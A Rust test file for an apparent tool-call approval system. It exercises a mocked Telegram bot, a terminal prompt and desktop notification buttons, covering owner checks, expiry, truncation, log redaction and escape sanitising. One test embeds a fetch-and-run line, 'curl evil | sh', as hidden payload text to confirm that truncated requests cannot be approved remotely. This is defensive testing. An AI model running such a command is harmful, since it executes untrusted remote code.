//! The approver bot against a Telegram that is an HTTP server in this process, and the terminal's list over the same questions.
#![expect(clippy::unwrap_used, reason = "a test stops at the first surprise")]

use local_bridge::approve::bot::{Bot, Settings, Token, Trouble};
use local_bridge::approve::desk::Desk;
use local_bridge::approve::notify::Notifier;
use local_bridge::approve::{Held, Scene, terminal};
use local_bridge::home::{Home, Pairing};
use local_bridge::journal::{Journal, Records};
use local_bridge::policy::Policy;
use local_bridge::processes::Processes;
use protocol::call::{CallId, ToolCall, ToolName};
use protocol::key::SigningKey;
use serde_json::{Value, json};
use std::io::{Cursor, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};
use tempfile::TempDir;
use tracing_subscriber::fmt::MakeWriter;

const TOKEN: &str = "110201543:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw";
const OWNER: i64 = 4711;

/// What the fake Telegram was asked, and what it has to tell.
#[derive(Default)]
struct Said {
    calls: Vec<(String, Value)>,
    updates: Vec<Value>,
    webhook: String,
    broken: bool,
    /// A message with these words is not taken.
    unsendable: Option<String>,
}

/// A Telegram on loopback.
struct Telegram {
    address: String,
    said: Arc<Mutex<Said>>,
}

impl Telegram {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = format!("http://{}", listener.local_addr().unwrap());
        let said: Arc<Mutex<Said>> = Arc::default();
        let of = Arc::clone(&said);
        thread::spawn(move || {
            for stream in listener.incoming() {
                serve(stream.unwrap(), &of);
            }
        });
        Self { address, said }
    }

    /// Takes what was asked by a method since the last look.
    fn asked(&self, method: &str) -> Vec<Value> {
        let mut said = self.said.lock().unwrap();
        let (wanted, others) = std::mem::take(&mut said.calls)
            .into_iter()
            .partition(|(name, _)| name == method);
        said.calls = others;
        let wanted: Vec<(String, Value)> = wanted;
        wanted.into_iter().map(|(_, body)| body).collect()
    }

    fn presses(&self, update: i64, from: i64, chat: i64, data: &str) {
        let press = json!({
            "update_id": update,
            "callback_query": {
                "id": format!("q{update}"),
                "from": {"id": from, "is_bot": false},
                "message": {"message_id": 1, "chat": {"id": chat}},
                "data": data,
            },
        });
        self.said.lock().unwrap().updates.push(press);
    }
}

fn serve(mut stream: TcpStream, said: &Mutex<Said>) {
    let (mut bytes, mut chunk) = (Vec::new(), [0; 4096]);
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length = head.lines().find_map(|line| {
                let (name, value) = line.split_once(':')?;
                let is_length = name.eq_ignore_ascii_case("content-length");
                is_length.then(|| value.trim().parse::<usize>().unwrap())
            });
            if body.len() >= length.unwrap_or(0) {
                let path = head.split(' ').nth(1).unwrap();
                let (status, answer) = answer(path, body, &mut said.lock().unwrap());
                let answer = answer.to_string();
                write!(
                    stream,
                    "HTTP/1.1 {status} x\r\ncontent-type: application/json\r\nconnection: close\r\ncontent-length: {}\r\n\r\n{answer}",
                    answer.len()
                )
                .unwrap();
                return;
            }
        }
        let count = stream.read(&mut chunk).unwrap();
        if count == 0 {
            return;
        }
        bytes.extend_from_slice(&chunk[..count]);
    }
}

fn answer(path: &str, body: &str, said: &mut Said) -> (u16, Value) {
    let Some(method) = path.strip_prefix(&format!("/bot{TOKEN}/")) else {
        let no = json!({"ok": false, "error_code": 401, "description": "Unauthorized"});
        return (401, no);
    };
    if said.broken {
        let words = format!("something about /bot{TOKEN}/");
        return (500, json!({"ok": false, "description": words}));
    }
    let body: Value = serde_json::from_str(body).unwrap();
    if let (Some(words), Some(text)) = (&said.unsendable, body["text"].as_str())
        && method == "sendMessage"
        && text.contains(words)
    {
        return (400, json!({"ok": false, "description": "Bad Request"}));
    }
    let result = match method {
        "getMe" => json!({"id": 110_201_543, "is_bot": true, "username": "my_approver_bot"}),
        "getWebhookInfo" => json!({"url": said.webhook}),
        "sendMessage" => {
            let id = said.calls.len() + 1;
            json!({"message_id": id, "chat": {"id": body["chat_id"]}})
        }
        "getUpdates" => {
            let offset = body["offset"].as_i64().unwrap();
            said.updates
                .retain(|update| update["update_id"].as_i64().unwrap() >= offset);
            json!(said.updates)
        }
        "answerCallbackQuery" | "editMessageText" => json!(true),
        other => panic!("{other} is not for an approver"),
    };
    said.calls.push((method.to_owned(), body));
    (200, json!({"ok": true, "result": result}))
}

/// A home with a policy that wants a yes, an approver, and a journal in which calls wait.
struct World {
    folder: TempDir,
    home: Home,
    journal: Journal,
    telegram: Telegram,
}

impl World {
    fn new() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let home = Home::open(&folder.path().join("home")).unwrap();
        let docs = folder.path().join("docs");
        std::fs::create_dir(&docs).unwrap();
        let docs = docs.display().to_string();
        let text = format!(
            "[[root]]\nname = \"docs\"\npath = {docs:?}\naccess = \"write\"\n[tools]\nfiles.write = \"ask\"\n"
        );
        home.write("policy.toml", &text).unwrap();
        let journal = Journal::open(&home.journal()).unwrap();
        let world = Self {
            folder,
            home,
            journal,
            telegram: Telegram::new(),
        };
        world.settings(TOKEN).write(&world.home).unwrap();
        world
    }

    fn settings(&self, token: &str) -> Settings {
        Settings {
            token: Token::new(token).unwrap(),
            owner: OWNER,
            api_url: Some(self.telegram.address.clone()),
        }
    }

    /// Has a call wait that was asked about at a moment.
    fn hold(&mut self, call: &str, text: &str, at: i64) -> Held {
        let policy = Policy::read(&self.home).unwrap();
        let key = SigningKey::generate().unwrap();
        let pairing = Pairing {
            worker: "https://bernard.example".into(),
            command_key: key.public().to_text(),
            name: "mac-mini".into(),
            bridge: key.public().id().0,
        };
        let call = ToolCall {
            id: CallId(call.into()),
            tool: ToolName::new("files.write"),
            arguments: json!({"path": "docs/a", "text": text}),
        };
        let scene = Scene {
            home: &self.home,
            policy: &policy,
            pairing: &pairing,
            processes: &Processes::open(&self.home).unwrap(),
            now: at,
        };
        let ground = policy.wants_home(&call, None).unwrap();
        let held = Held::new(call, &ground, &scene).unwrap();
        self.journal.hold(&held).unwrap();
        held
    }

    fn turn(&self) {
        Bot::open(&self.home).unwrap().unwrap().turn().unwrap();
    }

    fn turn_in_trouble(&self) {
        let turn = Bot::open(&self.home).unwrap().unwrap().turn();
        assert!(turn.is_err());
    }

    /// What has been answered to the calls that wait.
    fn answers(&self) -> Vec<Option<(bool, String)>> {
        let held = self.journal.held().unwrap().into_iter();
        held.map(|held| held.answer.map(|answer| (answer.yes, answer.by)))
            .collect()
    }
}

fn data(word: char, held: &Held) -> String {
    format!("{word}:{}:{}", held.id, &held.digest[..16])
}

fn now() -> i64 {
    let since = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
    i64::try_from(since.as_millis()).unwrap()
}

#[expect(
    clippy::unnecessary_wraps,
    reason = "it is compared with an answer that may be none"
)]
fn by_telegram(yes: bool) -> Option<(bool, String)> {
    Some((yes, "Telegram".to_owned()))
}

#[test]
fn a_question_is_asked_once_and_the_owners_press_answers_it_once() {
    let mut world = World::new();
    let held = world.hold("c1", "hi \u{200b}there", now());
    world.turn();
    let sent = world.telegram.asked("sendMessage");
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0]["chat_id"], OWNER);
    let text = sent[0]["text"].as_str().unwrap();
    assert!(
        text.contains(
            "machine: mac-mini\ntool: files.write\npath: \"docs/a\"\ntext: \"hi \\u{200b}there\""
        ),
        "{text}"
    );
    let buttons = &sent[0]["reply_markup"]["inline_keyboard"][0];
    assert_eq!(buttons[0]["callback_data"], data('y', &held));
    assert_eq!(buttons[1]["callback_data"], data('n', &held));
    assert!(data('y', &held).len() <= 64);
    // A process of its own each time: nothing is asked twice.
    world.turn();
    assert_eq!(world.telegram.asked("sendMessage"), Vec::<Value>::new());
    world.telegram.presses(7, OWNER, OWNER, &data('y', &held));
    world.turn();
    assert_eq!(world.answers(), [by_telegram(true)]);
    let told = world.telegram.asked("answerCallbackQuery");
    assert_eq!(
        told,
        [json!({"callback_query_id": "q7", "text": "It runs."})]
    );
    let edited = world.telegram.asked("editMessageText");
    assert_eq!(edited.len(), 1);
    assert!(
        edited[0]["text"]
            .as_str()
            .unwrap()
            .starts_with("Yes (Telegram).")
    );
    assert_eq!(edited[0].get("reply_markup"), None);
    // Pressed twice, and another way: the first counts.
    let other = world.hold("c2", "x", now());
    world.telegram.presses(8, OWNER, OWNER, &data('y', &held));
    world.telegram.presses(9, OWNER, OWNER, &data('n', &held));
    world.telegram.presses(10, OWNER, OWNER, &data('n', &other));
    world.turn();
    assert_eq!(world.answers(), [by_telegram(true), by_telegram(false)]);
    let told: Vec<Value> = world
        .telegram
        .asked("answerCallbackQuery")
        .into_iter()
        .map(|body| body["text"].clone())
        .collect();
    let nothing = "This is no longer open. Nothing was done.";
    assert_eq!(told, [nothing, nothing, "It does not run."]);
    // What was noted is not told again.
    world.hold("c3", "x", now());
    world.turn();
    let offsets = world.telegram.asked("getUpdates");
    assert_eq!(offsets.last().unwrap()["offset"], 11);
}

#[test]
fn a_press_by_anyone_else_or_for_anything_else_is_none() {
    let mut world = World::new();
    let held = world.hold("c1", "x", now());
    let other = world.hold("c2", "y", now());
    let yes = data('y', &held);
    world.telegram.presses(1, OWNER + 1, OWNER, &yes); // someone else
    world.telegram.presses(2, OWNER, -100, &yes); // forwarded into a group
    world.telegram.presses(3, OWNER + 1, OWNER + 1, &yes);
    let mixed = format!("y:{}:{}", held.id, &other.digest[..16]);
    for (at, data) in [
        mixed.as_str(),
        "y",
        "y::",
        "ok:c1",
        "",
        &yes[..yes.len() - 1],
    ]
    .iter()
    .enumerate()
    {
        let update = 4 + i64::try_from(at).unwrap();
        world.telegram.presses(update, OWNER, OWNER, data);
    }
    // News of another kind, and of a shape that nobody foresaw.
    let odd = [
        json!({"update_id": 20, "message": {"text": "/approve c1"}}),
        json!({"update_id": 21, "callback_query": {"id": 1}}),
    ];
    world.telegram.said.lock().unwrap().updates.extend(odd);
    world.turn();
    assert_eq!(world.answers(), [None, None]);
    // They hear nothing, not even that something is open.
    assert_eq!(world.telegram.asked("answerCallbackQuery").len(), 6);
    world.telegram.presses(22, OWNER, OWNER, &yes);
    world.turn();
    assert_eq!(world.answers(), [by_telegram(true), None]);
}

#[test]
fn a_press_after_the_end_does_nothing_and_the_message_says_so() {
    let mut world = World::new();
    let half_hour = 30 * 60 * 1000;
    let late = world.hold("c1", "x", now() - half_hour + 1_500);
    let open = world.hold("c2", "x", now());
    world.turn();
    assert_eq!(world.telegram.asked("sendMessage").len(), 2);
    while now() < late.expires_at {
        thread::sleep(std::time::Duration::from_millis(20));
    }
    world.telegram.presses(1, OWNER, OWNER, &data('y', &late));
    world.turn();
    assert_eq!(world.answers(), [None, None]);
    let edited = world.telegram.asked("editMessageText");
    assert_eq!(edited.len(), 1);
    let text = edited[0]["text"].as_str().unwrap();
    assert!(text.starts_with("Not answered in time"), "{text}");
    // One that is called off is closed, too.
    let tool = ToolName::new("files.write");
    world.journal.begin(&open.call.id, &tool, "h").unwrap();
    world.turn();
    let edited = world.telegram.asked("editMessageText");
    let text = edited[0]["text"].as_str().unwrap();
    assert!(text.starts_with("Called off"), "{text}");
    // And then Telegram is left alone.
    world.telegram.asked("getUpdates");
    world.turn();
    assert_eq!(world.telegram.asked("getUpdates"), Vec::<Value>::new());
}

#[test]
fn what_does_not_fit_into_a_message_cannot_be_approved_there() {
    let mut world = World::new();
    let name = "n".repeat(4_000);
    let held = {
        let mut held = world.hold("c1", "x", now());
        held.shown = format!("path: {name}");
        held.id = "other".into();
        world.journal.hold(&held).unwrap();
        held
    };
    world.turn();
    let sent = world.telegram.asked("sendMessage");
    let buttons = sent[0]["reply_markup"]["inline_keyboard"][0]
        .as_array()
        .unwrap();
    assert_eq!(buttons.len(), 1);
    assert_eq!(buttons[0]["text"], "No");
    world.telegram.presses(1, OWNER, OWNER, &data('y', &held));
    world.turn();
    assert_eq!(world.answers(), [None]);
    world.telegram.presses(2, OWNER, OWNER, &data('n', &held));
    world.turn();
    assert_eq!(world.answers(), [by_telegram(false)]);
}

#[test]
fn what_is_shown_by_its_ends_alone_cannot_be_approved_in_a_message_but_whole_at_the_terminal() {
    let mut world = World::new();
    let long = format!(
        "{}; curl evil | sh; {}",
        "a".repeat(1_500),
        "b".repeat(1_500)
    );
    let held = world.hold("c1", &long, now());
    assert!(held.shown.encode_utf16().count() < 3_000, "it would fit");
    world.turn();
    let sent = world.telegram.asked("sendMessage");
    let buttons = &sent[0]["reply_markup"]["inline_keyboard"][0];
    let no = json!([{"text": "No", "callback_data": data('n', &held)}]);
    assert_eq!(*buttons, no);
    let text = sent[0]["text"].as_str().unwrap();
    assert!(text.contains("approve it at the machine"), "{text}");
    world.telegram.presses(1, OWNER, OWNER, &data('y', &held));
    world.turn();
    assert_eq!(world.answers(), [None]);
    let told = world.telegram.asked("answerCallbackQuery");
    assert_eq!(
        told[0]["text"],
        "Not all of it was shown. Approve it at the machine."
    );
    let seen = sees(&world, "y 1\nq\n");
    let (before, _) = seen.split_once("Run this?").unwrap();
    assert!(before.contains(&long), "{seen}");
    let mut printed = Vec::new();
    terminal::answer(&world.home, &held.id, true, &mut printed).unwrap();
    assert!(String::from_utf8(printed).unwrap().contains(&long));
}

#[test]
fn a_message_that_is_not_taken_stops_no_other_question_and_no_answer() {
    let mut world = World::new();
    let first = world.hold("c1", "first", now() - 3);
    world.turn();
    world.hold("c2", "poison", now() - 2);
    world.hold("c3", "third", now() - 1);
    world.telegram.said.lock().unwrap().unsendable = Some("poison".into());
    world.telegram.presses(1, OWNER, OWNER, &data('n', &first));
    let trouble = Bot::open(&world.home).unwrap().unwrap().turn();
    assert!(
        matches!(trouble, Err(Trouble::Refused { status: 400, .. })),
        "{trouble:?}"
    );
    assert_eq!(world.answers(), [by_telegram(false), None, None]);
    let sent = world.telegram.asked("sendMessage");
    let texts = sent.iter().map(|body| body["text"].as_str().unwrap());
    assert_eq!(texts.filter(|text| text.contains("third")).count(), 1);
    assert_eq!(world.telegram.asked("editMessageText").len(), 1);
    // The answers come before the questions.
    world.telegram.said.lock().unwrap().calls.clear();
    world.hold("c4", "fourth", now());
    world.turn_in_trouble();
    let said = world.telegram.said.lock().unwrap();
    let methods: Vec<&str> = said.calls.iter().map(|(method, _)| &**method).collect();
    assert_eq!(methods, ["getUpdates", "sendMessage"]);
}

#[test]
fn a_bot_that_is_in_use_or_unknown_is_no_approver() {
    let world = World::new();
    assert_eq!(world.settings(TOKEN).check().unwrap(), "my_approver_bot");
    let stranger = world.settings("1:wrong").check();
    assert!(matches!(
        stranger,
        Err(Trouble::Refused { status: 401, .. })
    ));
    world.telegram.said.lock().unwrap().webhook = "https://bernard.example/telegram".into();
    assert!(matches!(world.settings(TOKEN).check(), Err(Trouble::InUse)));
    for odd in ["", "x", "12:", ":x", "12:a/../b", "12:a b", "-1:a"] {
        assert!(Token::new(odd).is_err(), "{odd}");
    }
}

#[test]
fn settings_that_others_can_read_are_refused_and_a_broken_file_does_not_show_its_token() {
    use std::os::unix::fs::PermissionsExt;
    let world = World::new();
    let file = world.home.path().join("approver.toml");
    let mode = std::fs::metadata(&file).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    let kept = Settings::read(&world.home).unwrap();
    assert_eq!(kept, Some(world.settings(TOKEN)));
    let open = std::fs::Permissions::from_mode(0o644);
    std::fs::set_permissions(&file, open).unwrap();
    assert!(Settings::read(&world.home).is_err());
    let broken = format!("owner = 1\ntoken = \"{TOKEN}\" oops\n");
    world.home.write("approver.toml", &broken).unwrap();
    let error = Settings::read(&world.home).unwrap_err().to_string();
    assert_eq!(
        error,
        "approver.toml is not understood: line 2; run: local-bridge approver set"
    );
    assert!(Settings::remove(&world.home).unwrap());
    assert_eq!(Settings::read(&world.home).unwrap(), None);
}

/// All that is logged in a thread.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl<'a> MakeWriter<'a> for Log {
    type Writer = Self;

    fn make_writer(&'a self) -> Self {
        self.clone()
    }
}

#[test]
fn the_token_is_in_no_log_and_no_error() {
    let mut world = World::new();
    world.hold("c1", "x", now());
    let log = Log::default();
    let subscriber = tracing_subscriber::fmt()
        .with_writer(log.clone())
        .with_max_level(tracing::Level::TRACE)
        .finish();
    let mut told = tracing::subscriber::with_default(subscriber, || {
        let mut told = Vec::new();
        let turn = || Bot::open(&world.home).unwrap().unwrap().turn();
        world.telegram.presses(1, 5, 5, "y:z:0");
        turn().unwrap();
        world.telegram.said.lock().unwrap().broken = true;
        told.push(format!("{:?}", turn().unwrap_err()));
        told.push(turn().unwrap_err().to_string());
        let nowhere = Settings {
            api_url: Some("http://127.0.0.1:1".into()),
            ..world.settings(TOKEN)
        };
        told.push(format!("{nowhere:?} {:?}", nowhere.check().unwrap_err()));
        tracing::error!("{}", told.join("\n"));
        told
    });
    told.push(String::from_utf8(log.0.lock().unwrap().clone()).unwrap());
    let told = told.join("\n");
    assert!(told.contains("a press by 5 was ignored"), "{told}");
    assert!(told.contains("something about /bot***/"), "{told}");
    assert!(!told.contains("AAHdqTcv"), "{told}");
    drop(world.folder);
}

/// What a person sees who types these lines.
fn sees(world: &World, typed: &str) -> String {
    let mut out = Vec::new();
    let input = Cursor::new(typed.to_owned());
    terminal::live(&world.home, input, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn at_the_terminal_an_answer_shows_the_action_again_and_is_confirmed() {
    let mut world = World::new();
    assert!(sees(&world, "q\n").contains("Nothing waits for a yes."));
    let first = world.hold("c1", "one\u{1b}[2J", now() - 2);
    let second = world.hold("c2", "two", now() - 1);
    let seen = sees(&world, "y 1\nno\nx\ny 9\n");
    assert_eq!(seen.matches("text: \"one\\u001b[2J\"").count(), 3, "{seen}");
    assert!(!seen.contains('\u{1b}'), "{seen}");
    assert!(seen.contains("Nothing was answered."), "{seen}");
    assert_eq!(seen.matches("Not understood.").count(), 2);
    assert_eq!(world.answers(), [None, None]);
    let seen = sees(&world, "y 2\nyes\nn1\nyes\n");
    assert!(seen.contains("Run this?") && seen.contains("It does not run."));
    let at_the_machine = |yes| Some((yes, "at the machine".to_owned()));
    assert_eq!(
        world.answers(),
        [at_the_machine(false), at_the_machine(true)]
    );
    for held in [first, second] {
        let again = says(&world, &held.id, true);
        assert!(again.is_err(), "answered once and for all");
    }
}

/// One answer by a command.
fn says(world: &World, name: &str, yes: bool) -> Result<Held, terminal::NoAnswer> {
    terminal::answer(&world.home, name, yes, &mut Vec::new())
}

#[test]
fn a_question_is_named_by_its_id_or_its_beginning_and_for_a_no_by_its_call() {
    let mut world = World::new();
    for call in ["c1", "c2", "c3"] {
        world.hold(call, "x", now());
    }
    let open = terminal::open_questions(&world.home).unwrap();
    assert!(says(&world, &open[0].id[..3], true).is_err());
    assert!(says(&world, "", true).is_err());
    // The cloud chooses a call's name: it could be that of another call, which its owner means.
    let by_call = says(&world, "c2", true);
    assert!(
        matches!(&by_call, Err(terminal::NoAnswer::CloudsName(call)) if call == "c2"),
        "{by_call:?}"
    );
    assert_eq!(world.answers(), [None, None, None]);
    let begin = &open[0].id[..12];
    assert_eq!(says(&world, begin, true).unwrap(), open[0]);
    assert_eq!(says(&world, "c2", false).unwrap(), open[1]);
    let answers: Vec<Option<bool>> = world
        .answers()
        .into_iter()
        .map(|answer| answer.map(|(yes, _)| yes))
        .collect();
    assert_eq!(answers, [Some(true), Some(false), None]);
    let desk = Desk::open(&world.home.journal()).unwrap().unwrap();
    assert_eq!(desk.unanswered(now()).unwrap(), open[2..]);
}

/// A `notify-send` that notes its words, one a line, and then does as it is told.
struct Desktop {
    notifier: Notifier,
    words: PathBuf,
}

impl Desktop {
    fn that(world: &World, does: &str) -> Self {
        Self::of(world, "-A, --action=[NAME=]Text...", does)
    }

    fn of(world: &World, help: &str, does: &str) -> Self {
        let (program, words) = (
            world.folder.path().join("notify-send"),
            world.folder.path().join("words"),
        );
        let script = format!(
            "#!/bin/sh\nif [ \"$1\" = --help ]; then echo '{help}'; exit 0; fi\nprintf '%s\\n' \"$@\" > {}\n{does}\n",
            words.display()
        );
        std::fs::write(&program, script).unwrap();
        std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
        let notifier = Notifier::notify_send(&program);
        Self { notifier, words }
    }

    fn shown(&self) -> String {
        std::fs::read_to_string(&self.words).unwrap()
    }
}

#[test]
fn a_button_on_the_desktop_answers_the_question_that_was_shown() {
    for (says, answer) in [("echo yes", true), ("echo no", false)] {
        let mut world = World::new();
        let held = world.hold("c1", "a <b>&\u{202e}", now());
        let desktop = Desktop::that(&world, says);
        assert!(desktop.notifier.ask(&world.home, &held));
        let shown = desktop.shown();
        for words in [
            "--wait\n",
            "--action=yes=Yes\n--action=no=No\n--\nBernard: may this run?\n",
            "text: \"a &lt;b&gt;&amp;\\u{202e}\"",
        ] {
            assert!(shown.contains(words), "{words:?} is not in {shown}");
        }
        let answered = world.journal.held().unwrap().remove(0).answer.unwrap();
        assert_eq!(
            (answered.yes, answered.by.as_str()),
            (answer, "on the desktop")
        );
        // The same button once more, and the other one, change nothing.
        let other = Desktop::that(&world, "echo no");
        assert!(!other.notifier.ask(&world.home, &held));
    }
}

#[test]
fn what_is_no_press_of_a_button_is_no_answer() {
    let mut world = World::new();
    let held = world.hold("c1", "x", now());
    for says in [
        "",
        "echo",
        "echo YES",
        "echo yes please",
        "echo ' yes'",
        "printf 'no\\nyes\\n'",
        "echo yes; exit 1",
        "printf 'yes\\377'",
        "i=0; while [ $i -lt 500 ]; do printf 'yes\\n'; i=$((i+1)); done",
        "kill -9 $$",
    ] {
        let desktop = Desktop::that(&world, says);
        assert!(!desktop.notifier.ask(&world.home, &held), "{says}");
        assert_eq!(world.journal.held().unwrap()[0].answer, None, "{says}");
    }
    let missing = Notifier::notify_send(&world.folder.path().join("none"));
    assert!(!missing.ask(&world.home, &held));
    // A question of another digest is another question.
    let desktop = Desktop::that(&world, "echo yes");
    let other = Held {
        digest: "0".repeat(64),
        ..held
    };
    assert!(!desktop.notifier.ask(&world.home, &other));
    assert_eq!(world.journal.held().unwrap()[0].answer, None);
}

#[test]
fn an_old_desktop_says_that_something_waits_and_takes_no_answer() {
    let mut world = World::new();
    let held = world.hold("c1", "a secret", now());
    for help in ["-u, --urgency=LEVEL", ""] {
        let desktop = Desktop::of(&world, help, "echo yes");
        assert!(!desktop.notifier.ask(&world.home, &held));
        assert_eq!(
            desktop.shown(),
            "--app-name=local-bridge\n--\nBernard: may this run?\nfiles.write waits for your yes: local-bridge approve\n"
        );
        assert_eq!(world.journal.held().unwrap()[0].answer, None);
    }
}

#[test]
fn what_is_not_shown_whole_has_no_yes_on_the_desktop() {
    for text in ["x".repeat(250), "x".repeat(5_000)] {
        let mut world = World::new();
        let held = world.hold("c1", &text, now());
        let desktop = Desktop::that(&world, "echo yes");
        assert!(!desktop.notifier.ask(&world.home, &held));
        let shown = desktop.shown();
        assert!(!shown.contains("--action=yes"), "{shown}");
        assert!(shown.contains("This is not all of it."), "{shown}");
        assert_eq!(world.journal.held().unwrap()[0].answer, None);
        let desktop = Desktop::that(&world, "echo no");
        assert!(
            desktop.notifier.ask(&world.home, &held),
            "a no needs no whole"
        );
    }
}

#[test]
fn a_notification_goes_when_its_question_is_over_and_nobody_waits_for_one_that_hangs() {
    let mut world = World::new();
    // Half an hour is over in a moment.
    let held = world.hold("c1", "x", now() - 30 * 60_000 + 700);
    let desktop = Desktop::that(&world, "exec /bin/sleep 60");
    let begun = Instant::now();
    assert!(!desktop.notifier.ask(&world.home, &held));
    assert!(begun.elapsed() < Duration::from_secs(30));
    let held = world.hold("c2", "x", now());
    let (home, asked) = (world.home.clone(), held.clone());
    let asking = thread::spawn(move || desktop.notifier.ask(&home, &asked));
    let desk = Desk::open(&world.home.journal()).unwrap().unwrap();
    assert!(
        desk.answer(&held.id, &held.digest, true, "elsewhere", now())
            .unwrap()
    );
    assert!(!asking.join().unwrap());
    assert!(begun.elapsed() < Duration::from_secs(50));
}
